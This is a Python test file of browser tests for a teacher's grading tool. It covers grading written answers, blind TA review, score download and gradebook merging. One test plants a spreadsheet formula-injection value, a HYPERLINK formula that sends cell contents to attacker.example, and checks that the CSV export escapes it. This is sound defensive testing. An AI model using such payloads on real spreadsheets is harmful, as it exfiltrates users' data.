"""A teacher's whole loop for written answers, in a real browser: grade, review, merge."""

from __future__ import annotations

import csv
import json
import re
import subprocess
import sys

import pytest

from coursekit.cli.app import main
from coursekit.exporters import Batch
from coursekit.exporters.review import write_review
from coursekit.grading.results import ExerciseGrade, SubmissionGrade
from coursekit.grading.reviews import blind_id, read_reviews
from coursekit.running.notebooks import write

from .conftest import lesson_notebook
from .test_browser import _shot, chromium  # noqa: F401 (the fixture)

pytestmark = [pytest.mark.browser, pytest.mark.slow]

ANSWERS = {
    "alice": "Of all 405 employees, 88.9 percent are Uyghur and other ethnic minority staff; "
             "the article's 90 percent is this share rounded.",
    "bob": "88.9 percent of the company's 405 employees.",
    "chen": "About 89 percentage points of them.",
    "dana": "Most of the workers.",
    "émile": "Of its 405 staff, 88.9 percent; the 90 percent in the article is rounded up.",
}


@pytest.fixture(scope="module")
def graded_class(tmp_path_factory):
    """Five submissions of lesson 02 with different written answers, graded to JSON."""
    where = tmp_path_factory.mktemp("written")
    (where / "class").mkdir()
    for learner, text in ANSWERS.items():
        notebook = lesson_notebook("02_percentages.ipynb")
        for cell in notebook.cells:
            if cell.get("metadata", {}).get("coursekit", {}).get("answer") == "share_in_words":
                cell.source = text
        write(notebook, where / "class" / f"{learner}.ipynb")
    results = where / "results.json"
    assert main(["grade", str(where / "class"), "--export", f"json:{results}", "--jobs",
                 "2"]) == 0
    return where, results


def q9(results, learner):
    document = json.loads(results.read_text(encoding="utf-8"))
    submission = next(s for s in document["submissions"] if f"/{learner}.ipynb" in s["path"])
    return next(e for e in submission["exercises"] if e["id"] == "q9")


def test_grade_review_in_the_browser_and_merge(graded_class, chromium):  # noqa: F811
    where, results = graded_class
    assert {q9(results, name)["status"] for name in ANSWERS} == {"needs_review"}
    assert q9(results, "bob")["points"] == 2 and q9(results, "chen")["points"] == 0
    page_file = where / "review.html"
    assert main(["review", str(results), "--html", str(page_file)]) == 0

    page = chromium.new_page(accept_downloads=True)
    errors = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.goto(page_file.as_uri())
    assert page.locator("article").count() == len(ANSWERS)
    # alice and émile say the same with the same numbers: one group, the largest, first
    first = page.locator("section.group").first
    assert first.locator("h3").inner_text() == "Group 1: 2 answer(s)"
    first.locator("summary").click()  # open the group to score alice on her own
    alice = page.locator("article[data-learner='alice']")
    alice.locator("input.criterion").fill("1")
    alice.locator("textarea.comment").fill("Clear, and you named the rounding.")
    bob = page.locator("article[data-learner='bob']")
    bob.locator("input.criterion").fill("0.5")
    page.reload()  # what was typed is kept in the browser
    assert page.locator("article[data-learner='alice'] input.criterion").input_value() == "1"
    _shot(page, "review-page")
    with page.expect_download() as download:
        page.get_by_role("button", name="Download scores (CSV)").click()
    scores = where / "scores.csv"
    download.value.save_as(scores)
    page.close()
    assert not errors

    rows = list(csv.DictReader(scores.open(encoding="utf-8")))
    assert [(r["learner"], r["teacher_points"]) for r in rows] == [("alice", "1"), ("bob", "0.5")]
    gradebook = where / "grades.csv"
    assert main(["export", str(results), "--reviews", str(scores), "--export",
                 f"csv:{gradebook}"]) == 0
    table = {r["learner"]: r for r in csv.DictReader(gradebook.open(encoding="utf-8-sig"))}
    assert table["alice"]["q9"] == "3" and table["bob"]["q9"] == "2.5"
    assert table["chen"]["q9"] == "0"


def test_the_scores_csv_is_safe_to_open_and_reads_back_as_typed(tmp_path, chromium):  # noqa: F811
    """The page's CSV: a learner's name or a comment a spreadsheet would run gets a quote
    before it; a carriage return is quoted as a line feed is; ``--reviews`` reads the
    values back as they were."""
    hostile = '=HYPERLINK("attacker.example?"&A1,"open")'
    waiting = ExerciseGrade("q9", "needs_review", 2, 3, "\u270e the teacher's part")
    grades = [SubmissionGrade(f"class/{hostile}.ipynb", "02_percentages", "graded", None, 2,
                              11, [waiting], written_answers={"q9": "88.9 percent"})]
    page_file = tmp_path / "review.html"
    write_review(Batch(grades, lesson_ids=frozenset({"02_percentages"})), page_file)
    page = chromium.new_page(accept_downloads=True)
    page.goto(page_file.as_uri())
    # HTML reads a carriage return in the page as a line feed; a script can still add one
    page.evaluate("document.querySelector('article').dataset.learner += '\\r@SUM(1)';"
                  "document.querySelector('article').dataset.lesson += '\\rx'")
    page.locator("article textarea.comment").fill("-1 for rounding\nsee the key")
    page.locator("article input.criterion").fill("1")
    with page.expect_download() as download:
        page.get_by_role("button", name="Download scores (CSV)").click()
    download.value.save_as(tmp_path / "scores.csv")
    page.close()
    raw = (tmp_path / "scores.csv").read_bytes().decode("utf-8")
    learner = hostile + "\r@SUM(1)"
    assert '"\'' + learner.replace('"', '""') + '"' in raw
    assert "\"'-1 for rounding\n" in raw and ',"02_percentages\rx",' in raw
    with open(tmp_path / "scores.csv", encoding="utf-8", newline="") as stream:
        assert len(list(csv.reader(stream))) == 2  # the header and one row
    review = read_reviews(tmp_path / "scores.csv")[0]
    assert (review.learner, review.lesson, review.teacher_points, review.comment) == (
        learner, "02_percentages\rx", 1.0, "-1 for rounding\nsee the key")


# -- a class of two sections, through grade, blind review by two TAs, merge and export ---------

FULL = ("Of all 405 employees, 88.9 percent are Uyghur and other ethnic minority staff; the "
        "article's 90 percent is this share rounded, and it covers this one company only.")
CLASS = {  # learner: (section, written answer to q9)
    "ann": ("A", FULL),
    "ben": ("B", "of all 405 employees,  88.9 percent are uyghur and other ethnic minority "
                 "staff; the article's 90 percent is this share rounded, and it covers this "
                 "one company only"),  # ann's words, with other capitals and spaces
    "cem": ("A", "88.9 percent of all 405 employees; the article's 90 percent is it, rounded."),
    "dia": ("B", "Most of the workers."),
    "eve": ("A", "88.9% of the company's 405 staff."),
}
#: eve's chain slip: the share as a fraction, which q2 then uses
SLIP = ('company_share = ck.figure("company_employees_ethnic") / '
        'ck.figure("company_employees")')


@pytest.fixture(scope="module")
def two_sections(tmp_path_factory):
    """The class above graded to JSON, with a roster that gives names and sections."""
    where = tmp_path_factory.mktemp("sections")
    (where / "class").mkdir()
    for learner, (_, text) in CLASS.items():
        notebook = lesson_notebook("02_percentages.ipynb")
        for cell in notebook.cells:
            if cell.get("metadata", {}).get("coursekit", {}).get("answer") == "share_in_words":
                cell.source = text
            if learner == "eve" and cell.source.startswith("# BEGIN SOLUTION\ncompany_share"):
                cell.source = SLIP
        write(notebook, where / "class" / f"{learner}.ipynb")
    roster = where / "roster.csv"
    roster.write_text("learner,name,section\n" + "".join(
        f"{learner},{learner.title()} Example,{section}\n"
        for learner, (section, _) in CLASS.items()), encoding="utf-8")
    results = where / "results.json"
    assert main(["grade", str(where / "class"), "--roster", str(roster), "--export",
                 f"json:{results}", "--jobs", "2"]) == 0
    return where, results, roster


def _download(page, target):
    with page.expect_download() as download:
        page.get_by_role("button", name="Download scores (CSV)").click()
    download.value.save_as(target)
    return {r["learner"]: r["teacher_points"]
            for r in csv.DictReader(target.open(encoding="utf-8"))}


def _open_page(browser, path):
    page = browser.new_page(accept_downloads=True, viewport={"width": 1100, "height": 1400})
    errors = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
    page.goto(path.as_uri())
    return page, errors


def test_a_class_through_groups_blind_review_two_tas_and_export(two_sections,
                                                               chromium):  # noqa: F811
    where, results, roster = two_sections
    document = json.loads(results.read_text(encoding="utf-8"))
    subs = {s["path"].split("/")[-1][:-6]: s for s in document["submissions"]}
    blind = {learner: blind_id(s["path"]) for learner, s in subs.items()}
    eve = {e["id"]: e for e in subs["eve"]["exercises"]}
    assert eve["q1"]["status"] == "incorrect" and "fraction" in eve["q1"]["feedback"]
    # the chain slip: q2 is right from eve's own q1, and earns its declared credit
    assert eve["q2"]["carried_from"] == ["q1"] and eve["q2"]["points"] == eve["q2"]["max_points"]
    machine = {learner: q9(results, learner)["points"] for learner in CLASS}

    # TA 1 takes section A, blind
    assert main(["review", str(results), "--html", str(where / "pages"), "--roster",
                 str(roster), "--split", "section", "--blind"]) == 0
    assert sorted(p.name for p in (where / "pages").iterdir()) == ["review-A.html",
                                                                   "review-B.html"]
    page, errors = _open_page(chromium, where / "pages" / "review-A.html")
    html = page.content()
    assert not {"ann", "cem", "eve", "Example", "ipynb"} & set(re.findall(r"\w+", html))
    group = page.locator("section.group").first  # ann and cem: same criteria, same numbers
    assert group.locator("article").count() == 2
    assert {group.locator("article").nth(i).get_attribute("data-learner")
            for i in range(2)} == {blind["ann"], blind["cem"]}
    group.locator(".group-scores input.criterion").fill("1")  # scored once for both
    group.locator("summary").click()
    cem = group.locator(f"article[data-learner='{blind['cem']}']")
    assert cem.locator("input.criterion").get_attribute("placeholder") == "group: 1"
    cem.locator("input.criterion").fill("0.5")  # and one of them on its own
    page.locator(f"article[data-learner='{blind['eve']}'] input.criterion").fill("0.5")
    ta1 = _download(page, where / "ta1.csv")
    assert ta1 == {blind["ann"]: "1", blind["cem"]: "0.5", blind["eve"]: "0.5"}
    assert not errors
    page.close()

    # TA 2 marks the whole class, blind, and scores the largest group once
    assert main(["review", str(results), "--html", str(where / "all.html"), "--blind"]) == 0
    page, errors = _open_page(chromium, where / "all.html")
    group = page.locator("section.group").first
    assert group.locator("h3").inner_text() == "Group 1: 3 answer(s)"  # ann, ben, cem
    assert group.locator(":scope > blockquote").count() == 2  # ann's and ben's words are one
    group.locator(".group-scores input.criterion").fill("1")
    group.locator(".group-scores textarea.comment").fill("Both points made.")
    group.locator("summary").click()
    _shot(page, "review-groups")
    from axe_playwright_python.sync_playwright import Axe

    assert [v["id"] for v in Axe().run(page).response["violations"]
            if v["impact"] in ("serious", "critical")] == []
    page.locator(f"article[data-learner='{blind['dia']}'] input.criterion").fill("0")
    page.locator(f"article[data-learner='{blind['eve']}'] input.criterion").fill("0.5")
    ta2 = _download(page, where / "ta2.csv")
    assert ta2 == {blind["ann"]: "1", blind["ben"]: "1", blind["cem"]: "1", blind["dia"]: "0",
                   blind["eve"]: "0.5"}
    comments = {r["learner"]: r["comment"]
                for r in csv.DictReader((where / "ta2.csv").open(encoding="utf-8"))}
    assert {comments[blind[name]] for name in ("ann", "ben", "cem")} == {"Both points made."}
    assert comments[blind["dia"]] == ""
    assert not errors
    page.close()

    # the merge: names come back, the two files disagree on cem only
    gradebook = where / "grades.csv"
    run = subprocess.run(
        [sys.executable, "-m", "coursekit", "export", str(results), "--roster", str(roster),
         "--reviews", str(where / "ta1.csv"), "--reviews", str(where / "ta2.csv"),
         "--export", f"csv:{gradebook}"], capture_output=True, text=True)
    assert run.returncode == 1, run.stderr
    assert (f"conflict: cem 02_percentages q9 is scored differently: {where / 'ta1.csv'} gives "
            f"teacher_points 0.5; {where / 'ta2.csv'} gives teacher_points 1") in run.stderr
    table = {r["learner"]: r for r in csv.DictReader(gradebook.open(encoding="utf-8-sig"))}
    assert set(table) == set(CLASS)
    assert {learner: float(table[learner]["q9"]) for learner in CLASS} == {
        "ann": machine["ann"] + 1, "ben": machine["ben"] + 1, "cem": machine["cem"],
        "dia": machine["dia"], "eve": machine["eve"] + 0.5}
    assert float(table["eve"]["q1"]) == 0
    assert float(table["eve"]["q2"]) == eve["q2"]["max_points"]  # carried forward
